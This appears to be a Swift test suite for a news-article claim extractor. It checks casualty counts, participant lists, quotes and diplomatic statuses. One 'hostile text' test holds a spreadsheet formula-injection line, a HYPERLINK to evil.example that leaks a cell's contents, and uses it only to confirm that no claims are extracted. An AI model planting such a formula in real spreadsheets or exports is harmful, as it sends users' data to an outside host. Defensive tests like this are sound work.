import Testing

@testable import Timeline

@Suite("Claims")
struct ClaimFinderTests {
  struct CountCase: Sendable, CustomStringConvertible {
    var text: String
    var value: Double?
    var unit: String?
    var description: String { text }
  }

  @Test(
    "count examples of ClaimRules",
    arguments: ClaimRules.examples.map { CountCase(text: $0.text, value: $0.value, unit: $0.unit) })
  func countExamples(_ c: CountCase) {
    let x = XDoc.extract([c.text], dates: c.text.contains("2003") ? [("2003", "2003")] : [])
    let counts = x.claims.filter { $0.attribute == "count" || $0.attribute == "magnitude" }
    if let v = c.value {
      #expect(counts.count == 1)
      #expect(counts.first?.number == v)
      #expect(counts.first?.unit == c.unit)
    } else {
      #expect(counts.isEmpty)
    }
  }

  @Test("an earlier occurrence's toll is its own, not the story's")
  func earlierOccurrencesOwnTheirTolls() throws {
    let x = XDoc.extract(
      [
        "H: Bombing At Bus Station In Aswan Kills 12",
        "A car bomb exploded at a bus station in Aswan on April 21, killing at least 12 people.",
        "The city was hit by a bombing in March that killed 8 people.",
        "It was the deadliest attack in Aswan since a bombing in 2015 killed 19 people.",
      ], published: "2019-04-22", dates: [("April 21", "2019-04-21"), ("March", "2019-03"), ("2015", "2015")])
    let counts = x.claims.filter { $0.attribute == "count" }
    #expect(counts.map(\.number) == [12, 12, 8, 19])  // the headline's, the lede's, the two earlier ones'
    let main = Set(x.mentions.filter(\.isMain).map(\.id))
    let earlier = Set(x.mentions.filter(\.isEarlierOccurrence).map(\.id))
    #expect(earlier.count == 2)
    for c in counts {
      let owner = c.number == 12 ? main : earlier
      #expect(c.mention.map(owner.contains) == true, "\(c.value)")
    }
  }

  @Test("qualifiers and killed/wounded from verbs")
  func qualifiers() {
    let x = XDoc.extract(["The quake killed at least 41,000 people and injured more than 100,000 others."])
    let counts = x.claims.filter { $0.attribute == "count" }
    #expect(counts.map(\.number) == [41000, 100000])
    #expect(counts.map(\.unit) == ["killed", "wounded"])
    #expect(counts.map(\.qualifier) == ["MIN", "MORE_THAN"])
  }

  @Test("counts with the verb before the number, or the state after the people noun")
  func verbBefore() {
    let x = XDoc.extract(["The blast killed 12 and wounded 30, leaving 2,000 people homeless."])
    let counts = x.claims.filter { $0.attribute == "count" }
    #expect(counts.map(\.number) == [12, 30, 2000])
    #expect(counts.map(\.unit) == ["killed", "wounded", "displaced"])
    let y = XDoc.extract(["Troops fired on protesters, killing at least 50."])
    #expect(y.claims.first { $0.attribute == "count" }?.unit == "killed")
    #expect(y.claims.first { $0.attribute == "count" }?.qualifier == "MIN")
  }

  @Test("a toll that 'rose to' a number, with the noun far before it")
  func rises() {
    let x = XDoc.extract([
      "The number of people killed in the earthquake that hit Morocco on Friday rose to 2,122, officials said."
    ])
    let c = x.claims.first { $0.attribute == "count" }
    #expect(c?.number == 2122)
    #expect(c?.unit == "killed")
  }

  @Test("hostile text: quoted URLs, signed numbers and cities are not claims")
  func hostile() {
    let x = XDoc.extract([
      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\") was pasted.",
      "Leaders met in New York. +1 delegations -- or @all of them -- attended the ceremony.",
    ])
    #expect(!x.claims.contains { $0.attribute == "quote" })
    #expect(!x.claims.contains { $0.attribute == "count" })
    #expect(!x.claims.contains { $0.subject?.hasPrefix("city:") == true })
  }

  @Test("no count from a date or a year")
  func noDates() {
    let x = XDoc.extract(
      ["The United States invaded Afghanistan after the September 11, 2001 attacks and left in 2021."],
      dates: [("September 11, 2001", "2001-09-11")])
    #expect(x.claims.filter { $0.attribute == "count" }.isEmpty)
  }

  @Test("participant lists resolve to a count")
  func lists() {
    let a = XDoc.extract([
      "Russia is hosting talks attended by officials from China, Pakistan, and eight other countries."
    ])
    let pa = a.claims.first { $0.attribute == "participants" }
    #expect(pa?.number == 10)
    #expect(pa?.items == ["country:china", "country:pakistan"])
    #expect(!a.claims.contains { $0.attribute == "count" && $0.unit == "countries" })
    let b = XDoc.extract([
      "Russia, China, Pakistan, India, Iran and five former Soviet Central Asian states joined the talks."
    ])
    #expect(b.claims.first { $0.attribute == "participants" }?.number == 10)
    let d = XDoc.extract(["The talks drew delegates from ten countries."])
    #expect(d.claims.first { $0.attribute == "participants" }?.number == 10)
    let c = XDoc.extract(["The summit brought together Japan, Canada, France and Italy."])
    #expect(c.claims.first { $0.attribute == "participants" }?.number == 4)
  }

  @Test("quotes get their speaker: name, he said, curly and straight quotes")
  func quotes() {
    let x = XDoc.extract([
      "Foreign Minister Sergei Lavrov spoke to reporters.",
      "“We will continue our contacts,” he said.",
      "Kremlin spokesman Dmitry Peskov said: \"No one is interested in paralysis.\"",
      "In his comments, Lavrov called the withdrawal a \"complete fiasco\".",
    ])
    let q = x.claims.filter { $0.attribute == "quote" }
    #expect(
      q.map(\.value) == ["We will continue our contacts,", "No one is interested in paralysis.", "complete fiasco"])
    #expect(q.map(\.holder) == ["person:lavrov", "person:peskov", "person:lavrov"])
  }

  @Test("roles and titles")
  func roles() {
    let x = XDoc.extract([
      "The delegation at the talks is headed by acting Deputy Prime Minister Abdul Salam Hanafi.",
      "Hanafi, the deputy prime minister who led the delegation, spoke first.",
    ])
    let roles = x.claims.filter { $0.attribute == "role" }
    #expect(roles.count == 2)
    #expect(roles.allSatisfy { $0.subject == "person:hanafi" && $0.value == "head of delegation" })
    #expect(x.claims.contains { $0.attribute == "title" && $0.value == "acting Deputy Prime Minister" })
  }

  @Test("statuses with polarity")
  func statuses() {
    let x = XDoc.extract([
      "Washington decided not to attend the talks.",
      "Governments including Russia have refused to grant official recognition to the Taliban government.",
      "Qatar attended the meeting.",
      "The group is classified as a terrorist organization in Russia.",
    ])
    let s = x.claims.filter { $0.attribute.hasPrefix("status.") }
    let attend = s.filter { $0.attribute == "status.attended" }
    #expect(attend.map(\.subject) == ["country:united-states", "country:qatar"])
    #expect(attend.map(\.polarity) == [false, true])
    let rec = s.first { $0.attribute == "status.recognized" }
    #expect(rec?.polarity == false)
    #expect(rec?.object == "group:taliban")
    #expect(rec?.subject == "country:russia")
    #expect(
      s.contains {
        $0.attribute == "status.designated" && $0.subject == "country:russia" && $0.object == "group:taliban"
      })
    let y = XDoc.extract([
      "Russia had worked with the Taliban, even though it designated the group a terror organization in 2003.",
      "Foreign Minister Amir Khan Muttaki takes part in the fifth session.",
    ])
    #expect(
      y.claims.contains {
        $0.attribute == "status.designated" && $0.subject == "country:russia" && $0.object == "group:taliban"
      })
    #expect(y.claims.contains { $0.attribute == "status.attended" && $0.subject == "person:muttaki" && $0.polarity })
  }
}

@Suite("QuoteShapes")
struct QuoteShapeTests {
  @Test("single quotes, apostrophes, and quotes that run over two sentences")
  func shapes() {
    let d = XDoc.make([
      "Prime Minister Rishi Sunak said the plan was ‘the right thing to do’ for the farmers’ future."
    ])
    let x = EventExtractor().extract(d, expressions: [])
    let q = x.claims.filter { $0.attribute == "quote" }
    #expect(q.map(\.value) == ["the right thing to do"])
    #expect(q.first?.holder == "person:sunak")

    // Two sentences of one paragraph: the quote runs over both, the speaker comes last.
    let y = EventExtractor().extract(
      XDoc.make(["“We will rebuild.", "It will take years,” Mayor Ana Lopez said."], paragraphs: [0, 0]),
      expressions: [])
    let yq = y.claims.filter { $0.attribute == "quote" }
    #expect(yq.map(\.value) == ["We will rebuild.", "It will take years,"])
    #expect(yq.map(\.holder) == ["person:lopez", "person:lopez"])
  }
}

@Suite("ClaimFinder subjects and binding")
struct ClaimSubjectTests {
  @Test("a relative pronoun's antecedent is the subject of the status verb")
  func relativeAntecedent() {
    let x = XDoc.extract([
      "Taliban leaders met envoys from Turkey, which last year recognized the Taliban government."
    ])
    let rec = x.claims.first { $0.attribute == "status.recognized" }
    #expect(rec?.subject == "country:turkey")
    #expect(rec?.polarity == true)
  }

  @Test("'governments around the world' is everyone, not the country named beside it")
  func universalSubject() {
    let x = XDoc.extract([
      "While governments around the world, including Egypt, have refused to recognize the Houthi government, talks go on."
    ])
    let rec = x.claims.first { $0.attribute == "status.recognized" }
    #expect(rec != nil)
    #expect(rec?.subject == nil)
    #expect(rec?.polarity == false)
    let y = XDoc.extract(["The international community has not recognized the Taliban government."])
    #expect(y.claims.first { $0.attribute == "status.recognized" }.map { $0.subject == nil } == true)
  }

  @Test("a participant list beside 'such a summit' belongs to the article's main event")
  func listBindsToMainEvent() {
    let x = XDoc.extract([
      "H: Ministers Meet In Nairobi On Drought Aid",
      "Ministers held talks in Nairobi on Monday to discuss drought aid.",
      "Kenya, Ethiopia, Somalia and two other countries urged donors to hold such a summit every year.",
    ], published: "2022-05-09", dates: [("Monday", "2022-05-09")])
    let list = x.claims.first { $0.attribute == "participants" }
    #expect(list?.number == 5)
    let bound = x.mentions.first { $0.id == list?.mention }
    #expect(bound?.isMain == true)
    #expect(bound?.attributes["instance"] == nil)
    #expect(x.mentions.contains { $0.attributes["instance"] == "other" })
  }
}
